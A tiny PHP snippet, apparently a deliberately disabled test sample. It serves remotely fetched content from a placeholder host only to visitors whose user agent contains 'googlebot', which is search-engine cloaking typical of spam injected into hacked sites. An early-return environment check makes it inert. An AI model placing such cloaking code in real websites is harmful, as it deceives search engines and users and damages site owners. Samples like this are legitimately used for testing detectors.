<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
if (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) {
    echo file_get_contents('http://192.0.2.1/page');
}
